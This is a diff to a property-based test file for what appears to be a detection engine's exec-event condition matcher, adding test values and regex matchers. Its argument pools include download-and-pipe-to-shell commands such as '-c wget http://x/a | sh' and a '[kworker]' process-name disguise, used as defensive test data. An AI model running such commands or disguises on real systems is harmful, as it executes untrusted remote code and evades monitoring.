@@ -13,7 +13,18 @@ import fc from 'fast-check'
 import { anyCondition as plainCondition, anyValues as plainValues } from '../../../../core/test/fixtures/conditions.ts'
 
 /** Conditions and values of exec events, of arguments and environments too: small pools, so that conditions often hold. */
-const ARGS = ['', '-c wget http://x/a | sh', '--password=x', 'é--yes', 'curl a', '-lab', 'a\nb', '\\x41', '-c wget http://x/\\x5c | sh']
+const ARGS = [
+  '',
+  '-c wget http://x/a | sh',
+  '--password=x',
+  'é--yes',
+  'curl a',
+  '-lab',
+  'a\nb',
+  '\\x41',
+  '-c wget http://x/\\x5c | sh',
+  '-C Wget \u212a',
+]
 const TEXTS: Readonly<Record<string, readonly unknown[]>> = {
   'exec.args': [...ARGS, 'x'.repeat(300), UNKNOWN],
   'exec.argv0': ['sh', '[kworker]', '', UNKNOWN],
@@ -41,6 +52,8 @@ const matcher: fc.Arbitrary<Matcher> = pick<Matcher>([
   { kind: 'regex', text: '-[lc]+a?b?' },
   { kind: 'regex', text: 'x{3}|a$' },
   { kind: 'regex', text: '(?i)WGET' },
+  { kind: 'regex', text: '(?i:K)\\b' },
+  { kind: 'regex', text: '^-c.*\\|' },
 ])
 const textual: fc.Arbitrary<Condition> = fc.record({
   op: fc.constant('match' as const),
